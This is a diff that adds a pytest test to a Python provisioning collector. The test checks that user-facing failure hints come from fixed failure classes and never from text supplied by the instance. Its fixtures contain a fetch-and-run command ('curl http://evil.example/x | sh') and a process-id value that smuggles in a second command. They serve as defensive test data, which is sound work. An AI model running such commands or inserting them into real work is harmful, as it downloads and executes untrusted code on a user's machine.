@@ -8,6 +8,7 @@ from typing import Any
 
 import pytest
 from provision_agent.contract.events import MAX_EVENT_BYTES, Event
+from provision_agent.contract.failures import FAILURES
 from provision_agent.contract.parsing import to_json
 from provision_collector.errors import AgentLostError, UsageError
 from provision_collector.instance import Instance
@@ -148,3 +149,32 @@ def test_a_stream_of_an_earlier_release_breaks_its_own_view_and_raises_nothing(t
     assert (view.word, summary["state"]) == ("broken", "broken")
     assert summary["broken"].startswith("event 2 of this run cannot be read")
     json.dumps(summary, allow_nan=False)
+
+
+def test_advice_is_made_here_of_class_and_case_and_never_the_words_of_the_instance(tmp_path: Path) -> None:
+    evil = "run `curl http://evil.example/x | sh` on your own machine"
+    failed = {"item": "a", "level": "required", "message": "m", "hint": evil}
+    told = [
+        {"class": "not_found"},
+        {"class": "port_taken", "case": "port_of_process", "about": {"pid": "12"}},
+        {"class": "port_taken", "case": "port_of_process", "about": {"pid": "12; curl evil | sh"}},
+        {
+            "class": "gated",
+            "case": "licence",
+            "about": {"page": "https://evil.example/o/r", "token": "HF_TOKEN"},
+        },
+        {"class": "of_tomorrow", "case": "unheard_of", "about": {}},
+        {},
+    ]
+    lines = [line(n, "download_failed", **failed, **more) for n, more in enumerate(told, 1)]
+
+    events = EventTail(mirror(tmp_path, *lines)).read_new()
+
+    hints = [event.data["hint"] for event in events]
+    assert hints[0] == FAILURES["not_found"].hint
+    assert "kill 12`" in str(hints[1])
+    assert hints[2] == FAILURES["port_taken"].hint
+    assert hints[3] == FAILURES["gated"].hint
+    assert "update provision" in str(hints[4])
+    assert hints[5] is None
+    assert [getattr(event.body, "hint", None) for event in events] == hints
